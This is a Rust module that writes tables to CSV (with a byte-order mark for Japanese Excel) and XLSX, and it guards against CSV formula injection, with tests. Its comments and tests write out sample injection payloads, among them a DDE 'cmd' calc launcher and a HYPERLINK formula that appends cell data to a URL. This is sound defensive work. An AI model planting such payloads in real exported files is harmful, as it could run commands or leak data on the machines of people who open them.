//! Tables out to CSV and XLSX: a header row and rows of cells, written a page at a
//! time so that an export of any size runs in constant memory.
//!
//! - CSV is UTF-8 **with a byte-order mark**: Excel in a Japanese locale reads a CSV
//!   without one as Shift_JIS and garbles every Japanese character.
//! - XLSX uses `rust_xlsxwriter`'s constant-memory mode: each row goes to a
//!   temporary file as it is written, and the workbook is assembled at the end.
//!
//! - Text that a spreadsheet would read as a formula (`=HYPERLINK(...)`,
//!   `=1+cmd|...`) gets a leading `'` in CSV, as OWASP's CSV-injection advice says:
//!   a consultation title or system name typed by anyone reaches the manager who
//!   opens the file. Numbers are `Cell::Number` and stay numbers. XLSX needs no
//!   such care: its text cells are strings, never evaluated.
//!
//! Nothing here knows what the rows are; `web::export` pages through a query.

use std::borrow::Cow;

use std::io::Write;

use rust_xlsxwriter::{Format, Workbook, XlsxError};

/// One value of a row.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Empty,
}

impl From<String> for Cell {
    fn from(text: String) -> Cell {
        Cell::Text(text)
    }
}

impl<T: Into<Cell>> From<Option<T>> for Cell {
    fn from(value: Option<T>) -> Cell {
        value.map(Into::into).unwrap_or(Cell::Empty)
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Cell {
        Cell::Number(n as f64)
    }
}

pub type Row = Vec<Cell>;

/// The UTF-8 byte-order mark.
pub const BOM: &[u8] = b"\xEF\xBB\xBF";

fn csv_lines(rows: impl Iterator<Item = Vec<String>>) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        writer.write_record(row)?;
    }
    writer
        .into_inner()
        .map_err(|e| csv::Error::from(e.into_error()))
}

/// Characters that make Excel, LibreOffice or Google Sheets treat a cell as a
/// formula (or, tab and carriage return, hide one behind them); Excel in a
/// Japanese locale reads the full-width forms as the ASCII ones.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Text as a CSV cell that no spreadsheet evaluates: prefixed with `'` when it
/// begins like a formula.
pub fn csv_text(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The start of a CSV file: the byte-order mark and the header row.
pub fn csv_header(headers: &[String]) -> Result<Vec<u8>, csv::Error> {
    let mut out = BOM.to_vec();
    out.extend(csv_lines(std::iter::once(
        headers.iter().map(|h| csv_text(h).into_owned()).collect(),
    ))?);
    Ok(out)
}

/// Rows as CSV lines.
pub fn csv_rows(rows: &[Row]) -> Result<Vec<u8>, csv::Error> {
    csv_lines(rows.iter().map(|row| {
        row.iter()
            .map(|cell| match cell {
                Cell::Text(s) => csv_text(s).into_owned(),
                Cell::Number(n) => n.to_string(),
                Cell::Empty => String::new(),
            })
            .collect()
    }))
}

/// A one-sheet workbook being written row by row.
pub struct XlsxTable {
    workbook: Workbook,
    next_row: u32,
}

impl XlsxTable {
    pub fn new(sheet_name: &str, headers: &[String]) -> Result<XlsxTable, XlsxError> {
        let mut workbook = Workbook::new();
        let sheet = workbook.add_worksheet_with_constant_memory()?;
        sheet.set_name(sheet_name)?;
        let bold = Format::new().set_bold();
        for (col, header) in headers.iter().enumerate() {
            sheet.write_string_with_format(0, col as u16, header, &bold)?;
        }
        sheet.set_freeze_panes(1, 0)?;
        Ok(XlsxTable {
            workbook,
            next_row: 1,
        })
    }

    pub fn append(&mut self, rows: &[Row]) -> Result<(), XlsxError> {
        let sheet = self.workbook.worksheet_from_index(0)?;
        for row in rows {
            for (col, cell) in row.iter().enumerate() {
                let col = col as u16;
                match cell {
                    Cell::Text(s) => {
                        sheet.write_string(self.next_row, col, s)?;
                    }
                    Cell::Number(n) => {
                        sheet.write_number(self.next_row, col, *n)?;
                    }
                    Cell::Empty => {}
                }
            }
            self.next_row += 1;
        }
        Ok(())
    }

    /// Assembles the workbook into `out`.
    pub fn finish(mut self, out: impl Write + Send) -> Result<(), XlsxError> {
        self.workbook.save_to_writer(out)
    }
}

/// A small workbook of several sheets (a report's tables), in memory: each sheet
/// a name, headers and rows.
pub fn workbook(sheets: &[(String, Vec<String>, Vec<Row>)]) -> Result<Vec<u8>, XlsxError> {
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    for (name, headers, rows) in sheets {
        let sheet = workbook.add_worksheet();
        sheet.set_name(name)?;
        for (col, header) in headers.iter().enumerate() {
            sheet.write_string_with_format(0, col as u16, header, &bold)?;
        }
        for (r, row) in rows.iter().enumerate() {
            let r = r as u32 + 1;
            for (col, cell) in row.iter().enumerate() {
                match cell {
                    Cell::Text(s) => {
                        sheet.write_string(r, col as u16, s)?;
                    }
                    Cell::Number(n) => {
                        sheet.write_number(r, col as u16, *n)?;
                    }
                    Cell::Empty => {}
                }
            }
        }
        sheet.set_freeze_panes(1, 0)?;
    }
    workbook.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_starts_with_the_bom_and_quotes_what_needs_quoting() {
        let mut bytes = csv_header(&["番号".into(), "件名".into()]).expect("header");
        bytes.extend(
            csv_rows(&[vec![
                Cell::Text("DX-2025-0001".into()),
                Cell::Text("a,\"b\"".into()),
            ]])
            .expect("rows"),
        );
        assert!(bytes.starts_with(BOM));
        let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
        assert_eq!(text, "番号,件名\nDX-2025-0001,\"a,\"\"b\"\"\"\n");
    }

    fn csv_text_of(rows: &[Row]) -> String {
        String::from_utf8(csv_rows(rows).expect("rows")).expect("utf-8")
    }

    #[test]
    fn text_that_starts_like_a_formula_gets_a_leading_quote() {
        for (given, written) in [
            (
                "=HYPERLINK(\"http://x/?\"&A2,\"詳細\")",
                "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"詳細\"\")\"",
            ),
            ("=1+cmd|' /C calc'!A0", "'=1+cmd|' /C calc'!A0"),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("＝１＋１", "'＝１＋１"),
            ("＋１", "'＋１"),
            ("－１", "'－１"),
            ("＠ＳＵＭ", "'＠ＳＵＭ"),
        ] {
            assert_eq!(
                csv_text_of(&[vec![Cell::Text(given.into())]]),
                format!("{written}\n"),
                "{given:?}"
            );
        }
    }

    #[test]
    fn ordinary_text_numbers_and_headers() {
        assert_eq!(
            csv_text_of(&[vec![
                Cell::Text("DX-2025-0001".into()),
                Cell::Text("a=b".into()),
                Cell::Text(" =1".into()),
                Cell::Text(String::new()),
                Cell::Number(-5.0),
                Cell::Number(-0.5),
                Cell::Empty,
            ]]),
            "DX-2025-0001,a=b, =1,,-5,-0.5,\n",
            "negative numbers are numbers, not formulas"
        );
        let header = csv_header(&["=件名".into(), "番号".into()]).expect("header");
        assert_eq!(&header[BOM.len()..], "'=件名,番号\n".as_bytes());
    }
}
